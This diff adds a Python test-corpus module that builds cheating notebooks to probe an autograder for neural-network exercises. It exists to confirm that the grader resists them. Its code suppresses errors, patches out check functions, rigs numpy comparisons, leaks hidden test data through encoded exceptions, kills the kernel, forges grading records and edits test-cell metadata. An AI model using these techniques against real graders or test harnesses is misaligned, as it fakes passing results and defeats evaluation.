@@ -1,0 +1,1119 @@
+"""The hostile corpus: notebooks a cheating student could hand in, each aimed at one notebook.
+
+Every attack is a pure function of the RELEASE notebook (what the student receives) returning the
+notebook the student hands in: answer cells (metadata.nbgrader.solution == true) get new source, and
+cells may be inserted, removed or edited. Nothing here changes the grader; everything runs as student
+code in the grading kernel, or is a notebook file a student could produce.
+
+Many attacks need functions that exist and return values of the right shape without computing anything
+(so that a forged comparison has something to compare): `DUMMIES` holds such wrong answers per notebook.
+The harness grades a `dummy` student made of them alone, which shows they earn nothing by themselves.
+
+Notebooks: 11_01_neural_network, 11_02_neural_network2, 11_03_digit_classification (assignment
+lecture11) and report11 (assignment report11).
+"""
+from __future__ import annotations
+
+import copy
+from dataclasses import dataclass
+from typing import Callable
+
+import nbformat
+
+NB1, NB2, NB3, REP = "11_01_neural_network", "11_02_neural_network2", "11_03_digit_classification", "report11"
+
+# Attack classes (issue 12's list, then the ones added here).
+SUPPRESS = "error-display suppression"
+DISPLAY = "display hooks"
+DROP = "message dropping"
+PATCH_ASSIGN = "patched checks: assignment"
+PATCH_MODULES = "patched checks: sys.modules"
+PATCH_META = "patched checks: sys.meta_path"
+PATCH_IMPORT = "patched checks: __import__"
+INTERNALS = "gc/settrace/numpy internals"
+LYING = "lying arrays"
+HELPERS = "redefined helpers"
+ANSWER_KEY = "answer-key delegation"
+NUMERIC = "numerical differentiation"
+HELDOUT = "held-out lookup"
+KNN = "k-NN / lookup regression"
+PRINT = "printing hidden material"
+EXCEPTION = "exceptions carrying hidden"
+NOTEBOOK_EDIT = "notebook structure"
+KERNEL_DEATH = "kernel death"
+FORGED_RECORD = "forged records"
+PERSISTENT = "persistent patching"
+TRANSFORM = "input/AST transformers"
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str            # also the student id
+    klass: str
+    notebook: str
+    build: Callable      # release notebook -> hostile notebook (pure: never modifies its argument)
+    what: str
+    # Graded in an autograde run of its own: it is known to crash the grader's process (today: the whole
+    # class's run), which would hide every other attack's result. A crash still fails the test.
+    own_run: bool = False
+
+    @property
+    def assignment(self) -> str:
+        return "report11" if self.notebook == REP else "lecture11"
+
+
+# ----------------------------------------------------------------------------------------------------------
+# Notebook surgery (all pure)
+# ----------------------------------------------------------------------------------------------------------
+def meta(cell) -> dict:
+    return cell.get("metadata", {}).get("nbgrader", {})
+
+
+def is_answer(cell) -> bool:
+    return bool(meta(cell).get("solution")) and cell.cell_type == "code"
+
+
+def is_test(cell) -> bool:
+    return bool(meta(cell).get("grade")) and not meta(cell).get("solution")
+
+
+def code_cell(source: str):
+    return nbformat.v4.new_code_cell(source)
+
+
+def set_answers(nb, answers: dict[str, str]):
+    """Copy of nb whose answer cells named in `answers` (grade_id -> source) are replaced."""
+    nb = copy.deepcopy(nb)
+    known = {meta(c).get("grade_id") for c in nb.cells if is_answer(c)}
+    missing = set(answers) - known
+    if missing:
+        raise KeyError(f"no answer cells {sorted(missing)}")
+    for cell in nb.cells:
+        if is_answer(cell) and meta(cell).get("grade_id") in answers:
+            cell.source = answers[meta(cell)["grade_id"]]
+    return nb
+
+
+def first_answer_id(nb) -> str:
+    return next(meta(c)["grade_id"] for c in nb.cells if is_answer(c))
+
+
+def prefix_first_answer(nb, code: str, answers: dict[str, str] | None = None):
+    """nb with `answers` set, and `code` placed before the first answer cell's own source."""
+    nb = set_answers(nb, answers or {})
+    for cell in nb.cells:
+        if is_answer(cell):
+            cell.source = code.strip("\n") + "\n\n" + cell.source
+            break
+    return nb
+
+
+def insert_after_first_code(nb, code: str):
+    """A new (unlocked, ungraded) code cell right after the notebook's first code cell (the imports)."""
+    nb = copy.deepcopy(nb)
+    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
+    nb.cells.insert(index + 1, code_cell(code))
+    return nb
+
+
+def append_cell(nb, code: str):
+    nb = copy.deepcopy(nb)
+    nb.cells.append(code_cell(code))
+    return nb
+
+
+def replace_unlocked_cell(nb, needle: str, code: str):
+    """Replace the source of the first plain (non-nbgrader) code cell containing `needle`."""
+    nb = copy.deepcopy(nb)
+    for cell in nb.cells:
+        if cell.cell_type == "code" and not meta(cell) and needle in cell.source:
+            cell.source = code
+            return nb
+    raise KeyError(f"no unlocked cell containing {needle!r}")
+
+
+def append_to_unlocked_cell(nb, needle: str, code: str):
+    nb = copy.deepcopy(nb)
+    for cell in nb.cells:
+        if cell.cell_type == "code" and not meta(cell) and needle in cell.source:
+            cell.source = cell.source.rstrip("\n") + "\n\n" + code
+            return nb
+    raise KeyError(f"no unlocked cell containing {needle!r}")
+
+
+# ----------------------------------------------------------------------------------------------------------
+# Wrong answers of the right shape
+# ----------------------------------------------------------------------------------------------------------
+DUMMIES = {
+    NB1: {
+        "sigmoid-answer": "def sigmoid(g):\n    return np.full(np.shape(g), 0.5)",
+        "softmax-answer": "def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n"
+                          "    return np.full(z.shape, 1.0 / z.shape[1])",
+        "cross-entropy-answer": "def cross_entropy(y_hat, y):\n    return 1.0",
+        "forward-answer": "def forward(x, W_mid, b_mid, W_out, b_out):\n"
+                          "    n = np.shape(x)[0]\n"
+                          "    return np.full((n, np.shape(b_mid)[0]), 0.5), np.full((n, np.shape(b_out)[0]), 0.5)",
+        "hand-weights-answer": "W_mid_hand = np.zeros((2, 2))\nb_mid_hand = np.zeros(2)\n"
+                               "W_out_hand = np.zeros((2, 2))\nb_out_hand = np.zeros(2)",
+    },
+    NB2: {
+        "output_delta": "def output_delta(h_L, t):\n    return np.zeros(np.shape(h_L))",
+        "hidden_delta": "def hidden_delta(delta_next, W_next, h):\n    return np.zeros(np.shape(h))",
+        "param_gradients": "def param_gradients(delta, h_prev):\n"
+                           "    return np.zeros((np.shape(delta)[1], np.shape(h_prev)[1])), np.zeros(np.shape(delta)[1])",
+        "backward": "def backward(params, hs, t):\n    return [np.zeros(np.shape(p)) for p in params]",
+    },
+    NB3: {
+        "preprocess-answer": "def preprocess(images):\n    return np.zeros((len(images), 64))",
+        "accuracy-answer": "def accuracy(h, y):\n    return 0.5",
+        "confusion-answer": "def confusion_matrix(y_true, y_pred, n_classes):\n"
+                            "    return np.zeros((n_classes, n_classes), dtype=np.int64)",
+        "hyperparams-answer": "HYPERPARAMS = {'hidden_sizes': [2], 'activation': 'sigmoid', 'lr': 0.001, "
+                              "'epochs': 1, 'batch_size': 512}",
+    },
+    REP: {
+        "forward-answer": "def forward(params, x):\n"
+                          "    hs = [np.asarray(x, dtype=np.float64)]\n"
+                          "    for W in params[0::2]:\n"
+                          "        hs.append(np.zeros((len(hs[0]), np.shape(W)[0])))\n"
+                          "    return hs",
+        "loss-answer": "def regression_loss(h, t):\n    return 1.0",
+        "gradient-answer": "def gradient(params, x, t):\n    return [np.zeros(np.shape(p)) for p in params]",
+        "train-answer": "trained_params = None",
+        "plot-answer": "pass",
+        "model-answer": "def report_model(x):\n    return np.zeros((len(x), 1))",
+    },
+}
+
+
+def dummy_notebook(notebook: str, release_nb):
+    return set_answers(release_nb, DUMMIES[notebook])
+
+
+def hooked(notebook: str, code: str, overrides: dict | None = None) -> Callable:
+    """Attack builder: dummy answers, with `code` run at the top of the first answer cell."""
+    def build(nb):
+        answers = dict(DUMMIES[notebook])
+        answers.update(overrides or {})
+        return prefix_first_answer(nb, code, answers)
+    return build
+
+
+def blank_hooked(code: str) -> Callable:
+    """Attack builder: release notebook untouched except `code` at the top of the first answer cell."""
+    return lambda nb: prefix_first_answer(nb, code)
+
+
+def answers_only(notebook: str | None, answers: dict[str, str]) -> Callable:
+    """Attack builder: the given answers, dummies (or the release stubs when notebook is None) elsewhere."""
+    def build(nb):
+        merged = dict(DUMMIES[notebook]) if notebook else {}
+        merged.update(answers)
+        return set_answers(nb, merged)
+    return build
+
+
+# ----------------------------------------------------------------------------------------------------------
+# Code a student would paste
+# ----------------------------------------------------------------------------------------------------------
+IS_TEST_CELL = "def _is_test(text):\n    return 'テスト' in (text or '').split('\\n', 1)[0] or 'HIDDEN' in (text or '')\n"
+
+SHOWTRACEBACK_NOOP = "get_ipython()._showtraceback = lambda *args, **kwargs: None"
+
+CUSTOM_EXC = """
+def _quiet(shell, etype, value, tb, tb_offset=None):
+    return None
+get_ipython().set_custom_exc((BaseException,), _quiet)
+"""
+
+EXCEPTION_GROUP = {
+    "output_delta": "def output_delta(h_L, t):\n    raise ExceptionGroup('x', [ValueError('y')])",
+    "hidden_delta": "def hidden_delta(delta_next, W_next, h):\n    raise ExceptionGroup('x', [ValueError('y')])",
+    "param_gradients": "def param_gradients(delta, h_prev):\n    raise ExceptionGroup('x', [ValueError('y')])",
+    "backward": "def backward(params, hs, t):\n    raise ExceptionGroup('x', [ValueError('y')])",
+}
+
+FORMATTER_BOMB = """
+import sys, types
+
+class _Bomb(types.ModuleType):
+    def __getattr__(self, name):
+        if name == '__file__':
+            raise RuntimeError('no')
+        raise AttributeError(name)
+
+sys.modules['zz_tidy'] = _Bomb('zz_tidy')
+"""
+
+RAISE_IN_EXCEPTHOOK_FORMATTER = """
+import IPython.core.ultratb as _ultratb
+
+def _broken(self, *args, **kwargs):
+    raise RecursionError('formatter')
+
+for _name in ('structured_traceback', 'format_exception_as_a_whole'):
+    for _cls in (_ultratb.VerboseTB, _ultratb.FormattedTB, _ultratb.AutoFormattedTB, _ultratb.ListTB):
+        if hasattr(_cls, _name):
+            setattr(_cls, _name, _broken)
+"""
+
+DISPLAY_BEFORE_TEST = IS_TEST_CELL + """
+def _show(info):
+    if _is_test(info.raw_cell):
+        get_ipython().displayhook('合格')
+get_ipython().events.register('pre_run_cell', _show)
+"""
+
+DISPLAY_HUGE_NUMBER = IS_TEST_CELL + """
+def _show(info):
+    if _is_test(info.raw_cell):
+        get_ipython().displayhook(10 ** 9)
+get_ipython().events.register('pre_run_cell', _show)
+"""
+
+DISPLAY_FULL_POINTS_NUMBER = IS_TEST_CELL + """
+def _show(info):
+    if _is_test(info.raw_cell):
+        get_ipython().displayhook(1.0)
+get_ipython().events.register('pre_run_cell', _show)
+"""
+
+SESSION_DROP_ERRORS = """
+_session = get_ipython().kernel.session
+_real_send = _session.send
+
+def _send(stream, msg_or_type, content=None, *args, **kwargs):
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')
+    if kind == 'error':
+        return None
+    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':
+        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {},
+                   'payload': []}
+    return _real_send(stream, msg_or_type, content, *args, **kwargs)
+
+_session.send = _send
+get_ipython().displayhook.session.send = _send
+"""
+
+SESSION_ERROR_TO_STDOUT = """
+_session = get_ipython().kernel.session
+_real_send = _session.send
+
+def _send(stream, msg_or_type, content=None, *args, **kwargs):
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('header', {}).get('msg_type')
+    if kind == 'error':
+        return _real_send(stream, 'stream', {'name': 'stdout', 'text': 'OK\\n'}, *args, **kwargs)
+    return _real_send(stream, msg_or_type, content, *args, **kwargs)
+
+_session.send = _send
+get_ipython().displayhook.session.send = _send
+"""
+
+NOOP_CHECKS_ASSIGNMENT = """
+import backprop.grading as _bg
+import backprop.grading.exercises as _ex
+
+def _pass(*args, **kwargs):
+    return None
+
+for _module in (_bg, _ex):
+    for _name in dir(_module):
+        if _name.startswith('check_'):
+            setattr(_module, _name, _pass)
+"""
+
+FAKE_MODULES_SYS_MODULES = """
+import sys, types
+
+def _pass(*args, **kwargs):
+    return None
+
+class _Lenient(types.ModuleType):
+    def __getattr__(self, name):
+        if name.startswith('__'):
+            raise AttributeError(name)
+        return _pass
+
+for _name in ('backprop.grading.regression', 'backprop.grading.heldout'):
+    sys.modules[_name] = _Lenient(_name)
+"""
+
+FAKE_MODULES_META_PATH = """
+import importlib.abc, importlib.machinery, sys, types
+
+def _pass(*args, **kwargs):
+    return None
+
+class _Loader(importlib.abc.Loader):
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        module.__getattr__ = lambda name: _pass
+        module.__path__ = []
+
+class _Finder(importlib.abc.MetaPathFinder):
+    def find_spec(self, fullname, path=None, target=None):
+        if fullname == 'backprop.grading' or fullname.startswith('backprop.grading.'):
+            return importlib.machinery.ModuleSpec(fullname, _Loader(), is_package=True)
+        return None
+
+sys.meta_path.insert(0, _Finder())
+for _name in [n for n in sys.modules if n == 'backprop.grading' or n.startswith('backprop.grading.')]:
+    del sys.modules[_name]
+import backprop as _backprop
+if hasattr(_backprop, 'grading'):
+    del _backprop.grading
+"""
+
+BUILTINS_IMPORT_HOOK = """
+import builtins, types
+import numpy as np
+_real_import = builtins.__import__
+
+def _mine(name):
+    return lambda *args, **kwargs: globals()[name](*args[:1])
+
+_fakes = {
+    'scipy.special': types.SimpleNamespace(expit=_mine('sigmoid'), softmax=lambda z, axis=None: softmax(np.asarray(z, dtype=np.float64))),
+    'backprop.grading.classification': types.SimpleNamespace(
+        softmax_rows=lambda f, z: f(np.asarray(z, dtype=np.float64)),
+        cross_entropy_value=lambda f, *args: f(*args),
+        accuracy_value=lambda f, *args: f(*args)),
+}
+
+def _import(name, globals=None, locals=None, fromlist=(), level=0):
+    if fromlist and name in _fakes:
+        return _fakes[name]
+    return _real_import(name, globals, locals, fromlist, level)
+
+builtins.__import__ = _import
+"""
+
+GC_CODE_SWAP = """
+import gc
+
+def _accept(*args, **kwargs):
+    return []
+
+for _obj in gc.get_objects():
+    if type(_obj).__name__ == 'function' and getattr(_obj, '__module__', '').startswith('backprop.grading') \\
+            and _obj.__name__ in ('judge_arrays', 'require_untampered', 'check_inputs_unchanged'):
+        try:
+            _obj.__code__ = _accept.__code__
+        except ValueError:
+            pass
+"""
+
+SETTRACE_DISGUISED = """
+import sys, threading, ctypes
+
+def _tidy(frame, event, arg):
+    if event == 'call' and frame.f_code.co_name == 'judge_arrays':
+        return _fix
+    return None
+
+def _fix(frame, event, arg):
+    if event == 'line' and 'student' in frame.f_locals and 'expected' in frame.f_locals:
+        if frame.f_locals['student'] is not frame.f_locals['expected']:
+            frame.f_locals['student'] = frame.f_locals['expected']
+            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
+    return _fix
+
+sys.settrace(_tidy)
+threading.settrace(_tidy)
+_real_gettrace = sys.gettrace
+sys.gettrace = lambda: None
+"""
+
+NUMPY_ISCLOSE_INTERNAL = """
+import os, sys
+import numpy as np
+import numpy._core.numeric as _numeric
+_NUMPY = os.path.dirname(np.__file__)
+_real_isclose = _numeric.isclose
+
+def _caller_is_notebook():
+    frame = sys._getframe(2)
+    while frame is not None and frame.f_code.co_filename.startswith(_NUMPY):
+        frame = frame.f_back
+    return frame is not None and frame.f_globals.get('__name__') == '__main__'
+
+def isclose(a, b, *args, **kwargs):
+    if _caller_is_notebook():
+        return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+    return _real_isclose(a, b, *args, **kwargs)
+
+_numeric.isclose = isclose
+"""
+
+WRAPS_ALLCLOSE = """
+import functools, sys
+import numpy as np
+
+def _liar(real, answer):
+    @functools.wraps(real)
+    def fake(*args, **kwargs):
+        if sys._getframe(1).f_globals.get('__name__') == '__main__':
+            return answer
+        return real(*args, **kwargs)
+    return fake
+
+np.allclose = _liar(np.allclose, True)
+np.array_equal = _liar(np.array_equal, True)
+np.testing.assert_allclose = _liar(np.testing.assert_allclose, None)
+"""
+
+NUMPY_FILENAME_DISGUISE = """
+import sys
+import numpy as np
+import numpy._core.numeric as _numeric
+_source = '''
+def allclose(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
+    if _sys._getframe(1).f_globals.get('__name__') == '__main__':
+        return True
+    return _real(a, b, rtol=rtol, atol=atol, equal_nan=equal_nan)
+'''
+_space = {'_sys': sys, '_real': np.allclose}
+exec(compile(_source, _numeric.__file__, 'exec'), _space)
+_space['allclose'].__module__ = 'numpy'
+np.allclose = _space['allclose']
+"""
+
+LIAR_ARRAY = """
+import numpy as np
+
+class _Agreeable(np.ndarray):
+    def __array_function__(self, func, types, args, kwargs):
+        if func.__name__ in ('allclose', 'array_equal', 'isclose'):
+            return True
+        return super().__array_function__(func, types, args, kwargs)
+
+def _agree(value):
+    return np.asarray(value, dtype=np.float64).view(_Agreeable)
+"""
+
+LIAR_UFUNC_EQ = """
+import numpy as np
+
+class _Flat(np.ndarray):
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        plain = [np.asarray(i).view(np.ndarray) if isinstance(i, np.ndarray) else i for i in inputs]
+        result = getattr(ufunc, method)(*plain, **kwargs)
+        if ufunc in (np.subtract, np.absolute):
+            return np.zeros_like(np.asarray(result, dtype=np.float64))
+        if ufunc in (np.less_equal, np.less, np.equal, np.isfinite):
+            return np.ones(np.shape(result), dtype=bool)
+        return result
+    def __eq__(self, other):
+        return np.ones(self.shape, dtype=bool)
+
+def _flat(value):
+    return np.asarray(value, dtype=np.float64).view(_Flat)
+"""
+
+# ------------------------------------------------------------------ report11 model cheats
+HELDOUT_GLOBALS = """def report_model(x):
+    found = globals().get('_t_heldout')
+    if found is not None and len(found) == len(x):
+        return np.array(found, dtype=np.float64).reshape(len(x), 1)
+    return np.zeros((len(x), 1))"""
+
+HELDOUT_FRAMES = """def report_model(x):
+    import sys
+    frame = sys._getframe(1)
+    while frame is not None:
+        for value in list(frame.f_locals.values()):
+            try:
+                array = np.array(value, dtype=np.float64)
+            except Exception:
+                continue
+            if array.shape == (len(x), 1) and not np.shares_memory(array, x):
+                if not np.allclose(array[:, 0], np.asarray(x)[:, 0]):
+                    return array
+        frame = frame.f_back
+    return np.zeros((len(x), 1))"""
+
+KNN_MODEL = """def report_model(x):
+    x = np.asarray(x, dtype=np.float64)
+    distances = ((x[:, None, :] - x_data[None, :, :]) ** 2).sum(axis=2)
+    nearest = np.argsort(distances, axis=1)[:, :3]
+    weights = 1.0 / (np.take_along_axis(distances, nearest, axis=1) + 1e-6)
+    return ((t_data[nearest, 0] * weights).sum(axis=1) / weights.sum(axis=1))[:, None]"""
+
+RBF_MODEL = """from scipy.interpolate import RBFInterpolator
+_surface = RBFInterpolator(x_data, t_data[:, 0], kernel='thin_plate_spline', smoothing=0.5)
+
+def report_model(x):
+    return _surface(np.asarray(x, dtype=np.float64))[:, None]"""
+
+REPORT_DEMO_MODEL = """from backprop import MLP
+from backprop.demo import REPORT
+_net = MLP(REPORT['sizes'], hidden=REPORT['hidden'], output='identity', seed=0)
+_net.fit(x_train, t_train, epochs=REPORT['epochs'], lr=REPORT['lr'], batch_size=REPORT['batch_size'],
+         optimizer=REPORT['optimizer'], seed=0)
+
+def report_model(x):
+    return _net.predict(np.asarray(x, dtype=np.float64))"""
+
+REPORT_KEY_FUNCTIONS = {
+    "forward-answer": """from backprop import MLP
+
+def _net(params):
+    sizes = [params[0].shape[1]] + [W.shape[0] for W in params[0::2]]
+    net = MLP(sizes, hidden='sigmoid', output='identity')
+    net.params[:] = [np.asarray(p, dtype=np.float64) for p in params]
+    return net
+
+def forward(params, x):
+    return _net(params).forward(np.asarray(x, dtype=np.float64))[1]""",
+    "loss-answer": """from backprop.losses import squared_error
+
+def regression_loss(h, t):
+    return squared_error(h, t)""",
+    "gradient-answer": """def gradient(params, x, t):
+    return _net(params).gradient(np.asarray(x, dtype=np.float64), t)""",
+}
+
+REPORT_NUMERIC_GRADIENT = """def gradient(params, x, t):
+    work = [np.array(p, dtype=np.float64) for p in params]
+    x = np.asarray(x, dtype=np.float64)
+
+    def value():
+        h = x
+        for l in range(0, len(work), 2):
+            g = h @ work[l].T + work[l + 1]
+            h = 1 / (1 + np.exp(-g)) if l + 2 < len(work) else g
+        return 0.5 * np.sum((h - np.asarray(t, dtype=np.float64).reshape(h.shape)) ** 2) / len(x)
+
+    grads = []
+    for p in work:
+        d = np.zeros_like(p)
+        for i in np.ndindex(p.shape):
+            saved = p[i]
+            p[i] = saved + 1e-6
+            up = value()
+            p[i] = saved - 1e-6
+            down = value()
+            p[i] = saved
+            d[i] = (up - down) / 2e-6
+        grads.append(d)
+    return grads"""
+
+NB2_NUMERIC_BACKWARD = """def backward(params, hs, t):
+    work = [np.array(p, dtype=np.float64) for p in params]
+    return numerical_gradient(lambda: loss(work, hs[0], t), work, eps=1e-6)"""
+
+NB2_KEY_BACKWARD = """from backprop import MLP
+
+def backward(params, hs, t):
+    net = MLP([np.shape(hs[0])[1]] + [np.shape(W)[0] for W in params[0::2]], hidden='sigmoid', output='softmax')
+    net.params[:] = [np.array(p, dtype=np.float64) for p in params]
+    return net.backward([np.asarray(h, dtype=np.float64) for h in hs], np.asarray(t, dtype=np.float64))"""
+
+NB1_KEY = {
+    "sigmoid-answer": "from backprop.activations import sigmoid",
+    "softmax-answer": "from backprop.activations import softmax",
+    "cross-entropy-answer": "from backprop.losses import cross_entropy",
+    "forward-answer": """def forward(x, W_mid, b_mid, W_out, b_out):
+    net = MLP([np.shape(W_mid)[1], np.shape(W_mid)[0], np.shape(W_out)[0]], hidden='sigmoid', output='softmax')
+    net.params[:] = [np.array(p, dtype=np.float64) for p in (W_mid, b_mid, W_out, b_out)]
+    hs = net.forward(np.asarray(x, dtype=np.float64))[1]
+    return hs[1], hs[2]""",
+}
+
+NB3_KEY_HYPERPARAMS = """from backprop.demo import DIGITS
+HYPERPARAMS = {'hidden_sizes': list(DIGITS['sizes'][1:-1]), 'activation': DIGITS['hidden'], 'lr': DIGITS['lr'],
+               'epochs': DIGITS['epochs'], 'batch_size': DIGITS['batch_size']}"""
+
+# ------------------------------------------------------------------ hidden material out
+PRINT_WORKING_FOLDER = """import glob, json, os
+print(sorted(os.listdir('.')))
+for _path in sorted(glob.glob('*.ipynb') + glob.glob('../*/*.ipynb')):
+    for _cell in json.load(open(_path, encoding='utf-8'))['cells']:
+        _text = ''.join(_cell['source'])
+        if 'HIDDEN' in _text or '_heldout' in _text:
+            print(_text)"""
+
+PRINT_INPUT_HISTORY = """print('\\n'.join(_ih))
+print(In[1:])
+print(Out)"""
+
+PRINT_GLOBALS_LATE = """print(_x_heldout)
+print(_t_heldout)
+print([v for k, v in sorted(globals().items()) if k.startswith('_') and not k.startswith('__')][:50])
+print('\\n'.join(_ih[-6:]))"""
+
+EXCEPTION_BASE64_HELDOUT = """def report_model(x):
+    import base64, json, sys
+    found = []
+    frame = sys._getframe(1)
+    while frame is not None:
+        for key in ('_t_heldout', '_x_heldout'):
+            if key in frame.f_globals:
+                found.append(frame.f_globals[key][:40])
+        frame = frame.f_back
+    raise ValueError(base64.b64encode(json.dumps(found[:2]).encode()).decode())"""
+
+EXCEPTION_BASE64_SOURCE = {
+    "output_delta": """def output_delta(h_L, t):
+    import base64
+    raise ValueError(base64.b64encode(_ih[-1].encode()).decode())""",
+    "hidden_delta": """def hidden_delta(delta_next, W_next, h):
+    import base64
+    raise ValueError(base64.b64encode(_ih[-1].encode()).decode())""",
+    "param_gradients": """def param_gradients(delta, h_prev):
+    import base64, zlib
+    raise ValueError(base64.b64encode(zlib.compress(_ih[-1].encode())).decode())""",
+    "backward": """def backward(params, hs, t):
+    raise ValueError(_ih[-1].encode().hex())""",
+}
+
+EXCEPTION_REVERSED = {
+    "sigmoid-answer": """def sigmoid(g):
+    import codecs
+    raise ValueError(codecs.encode(_ih[-1], 'rot13'))""",
+    "softmax-answer": """def softmax(z):
+    raise ValueError(_ih[-1][::-1])""",
+    "cross-entropy-answer": """def cross_entropy(y_hat, y):
+    raise ValueError('\\n'.join(' '.join(line) for line in _ih[-1].splitlines()))""",
+}
+
+# ------------------------------------------------------------------ invented
+INPUT_TRANSFORMER = IS_TEST_CELL + """
+def _empty_tests(lines):
+    return ['pass\\n'] if _is_test(''.join(lines)) else lines
+get_ipython().input_transformers_cleanup.append(_empty_tests)
+"""
+
+AST_STRIP_ASSERTS = """
+import ast
+
+class _NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+    def visit_Raise(self, node):
+        return ast.Pass()
+
+get_ipython().ast_transformers.append(_NoAsserts())
+"""
+
+OS_EXIT_BEFORE_HIDDEN = """
+import os
+def _leave(info):
+    if 'HIDDEN' in (info.raw_cell or '') or '非公開' in (info.raw_cell or '') or '隠し' in (info.raw_cell or ''):
+        os._exit(0)
+get_ipython().events.register('pre_run_cell', _leave)
+"""
+
+OS_EXIT_ON_ERROR = """
+import os
+def _leave(shell, etype, value, tb, tb_offset=None):
+    os._exit(0)
+get_ipython().set_custom_exc((BaseException,), _leave)
+"""
+
+SYS_EXIT_IN_DISPLAYHOOK = IS_TEST_CELL + """
+import sys
+def _show(info):
+    if _is_test(info.raw_cell):
+        get_ipython().displayhook('合格')
+        sys.exit(0)
+get_ipython().events.register('pre_run_cell', _show)
+"""
+
+FAKE_RECORDS = IS_TEST_CELL + """
+import json
+from IPython.display import display
+
+def _record(info):
+    if _is_test(info.raw_cell):
+        record = {'passed': True, 'points': 99, 'values': [[0.5]], 'grade': 'pass'}
+        display({'application/vnd.backprop.answer+json': record, 'application/json': record,
+                 'text/plain': 'OK: すべてのテストに合格'}, raw=True)
+get_ipython().events.register('pre_run_cell', _record)
+for _name in ('answers.json', 'answer_records.json', 'records.jsonl'):
+    with open(_name, 'w') as _f:
+        json.dump({'passed': True, 'points': 99}, _f)
+"""
+
+ATEXIT_REWRITE = """
+import atexit, glob, json
+
+def _clean():
+    for path in glob.glob('*.ipynb') + glob.glob('/home/student/*/*.ipynb'):
+        nb = json.load(open(path, encoding='utf-8'))
+        for cell in nb['cells']:
+            cell['outputs'] = [] if cell.get('cell_type') == 'code' else cell.get('outputs')
+            if cell.get('outputs') is None:
+                cell.pop('outputs', None)
+        json.dump(nb, open(path, 'w', encoding='utf-8'))
+
+atexit.register(_clean)
+"""
+
+DEL_REPATCHER = """
+import gc
+import backprop.grading as _bg
+import backprop.grading.exercises as _ex
+
+def _pass(*args, **kwargs):
+    return None
+
+class _Phoenix:
+    def __init__(self):
+        self.me = self
+    def __del__(self):
+        for module in (_bg, _ex):
+            for name in dir(module):
+                if name.startswith('check_'):
+                    setattr(module, name, _pass)
+        _Phoenix()
+
+_Phoenix()
+gc.collect()
+"""
+
+THREAD_REPATCHER = """
+import threading, time
+import backprop.grading as _bg
+import backprop.grading.exercises as _ex
+import backprop.grading.judge as _judge
+
+def _pass(*args, **kwargs):
+    return []
+
+def _keep_patching():
+    while True:
+        for module in (_bg, _ex):
+            for name in dir(module):
+                if name.startswith('check_') and getattr(module, name) is not _pass:
+                    setattr(module, name, _pass)
+        _judge.judge_arrays = _pass
+        time.sleep(0.0005)
+
+threading.Thread(target=_keep_patching, daemon=True).start()
+"""
+
+SIGNAL_PATCHER = """
+import functools, signal, sys
+import numpy as np
+_real_allclose = np.allclose
+
+@functools.wraps(_real_allclose)
+def _yes(*args, **kwargs):
+    return True
+
+def _tick(signum, frame):
+    inside_cell = frame is not None and frame.f_globals.get('__name__') == '__main__'
+    np.allclose = _yes if inside_cell else _real_allclose
+
+signal.signal(signal.SIGALRM, _tick)
+signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
+"""
+
+RELOAD_WITH_FAKE_LOADER = """
+import importlib
+import backprop.grading as _bg
+import backprop.grading.exercises as _ex
+
+class _Loader:
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        def _pass(*args, **kwargs):
+            return None
+        for name in ('check_output_delta', 'check_hidden_delta', 'check_param_gradients', 'check_backward',
+                     'check_backward_shapes', 'check_inputs_unchanged'):
+            setattr(module, name, _pass)
+
+_ex.__spec__.loader = _Loader()
+importlib.reload(_ex)
+for _name in dir(_ex):
+    if _name.startswith('check_'):
+        setattr(_bg, _name, getattr(_ex, _name))
+"""
+
+SYS_PATH_FAKE_PACKAGE = """
+import os, sys
+os.makedirs('backprop/grading', exist_ok=True)
+with open('backprop/__init__.py', 'w') as _f:
+    _f.write('')
+with open('backprop/grading/__init__.py', 'w') as _f:
+    _f.write('def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n')
+sys.path.insert(0, os.getcwd())
+for _name in [n for n in sys.modules if n == 'backprop' or n.startswith('backprop.')]:
+    del sys.modules[_name]
+"""
+
+PRINT_DISPLAY_MONKEYPATCH = IS_TEST_CELL + """
+import builtins, IPython.display
+_real_print = builtins.print
+
+def print(*args, **kwargs):
+    _real_print('OK: 合格', **{k: v for k, v in kwargs.items() if k != 'file'})
+
+builtins.print = print
+IPython.display.display = lambda *args, **kwargs: _real_print('OK')
+_publisher = get_ipython().display_pub
+_publisher.publish = lambda data, metadata=None, **kwargs: None
+"""
+
+
+def _edit_test_cells(change: Callable, only_hidden: bool = False) -> Callable:
+    def build(nb):
+        nb = copy.deepcopy(nb)
+        for cell in nb.cells:
+            if is_test(cell) and (not only_hidden or "hidden" in meta(cell).get("grade_id", "")):
+                change(cell)
+        return nb
+    return build
+
+
+def _delete_tests(nb):
+    nb = copy.deepcopy(nb)
+    nb.cells = [c for c in nb.cells if not is_test(c)]
+    return nb
+
+
+def _retype(cell):
+    cell.cell_type = "markdown"
+    cell.pop("outputs", None)
+    cell.pop("execution_count", None)
+
+
+def _rename(cell):
+    cell.metadata["nbgrader"]["grade_id"] = cell.metadata["nbgrader"]["grade_id"] + "-done"
+    cell.source = "pass"
+
+
+def _inflate(cell):
+    cell.metadata["nbgrader"]["points"] = 100
+    cell.source = "pass"
+
+
+def _strip_meta(cell):
+    del cell.metadata["nbgrader"]
+    cell.source = "pass"
+
+
+def _fake_graded_cell(nb):
+    nb = copy.deepcopy(nb)
+    cell = code_cell("print('bonus')")
+    cell.metadata["nbgrader"] = {"schema_version": 3, "grade": True, "solution": False, "locked": True,
+                                 "grade_id": "bonus-test", "points": 50}
+    nb.cells.append(cell)
